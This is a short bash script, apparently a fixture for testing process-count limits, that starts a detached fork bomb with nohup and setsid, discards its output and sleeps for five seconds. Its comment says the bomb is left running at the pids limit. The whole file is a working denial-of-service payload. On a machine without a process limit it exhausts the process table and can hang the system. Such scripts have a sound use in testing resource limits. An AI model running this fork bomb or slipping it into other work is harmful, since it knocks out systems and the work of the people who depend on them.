#!/usr/bin/env bash
# A fork bomb left running at the pids limit; the work is never done.
nohup setsid bash -c 'bomb() { bomb | bomb & }; bomb' >/dev/null 2>&1 &
sleep 5
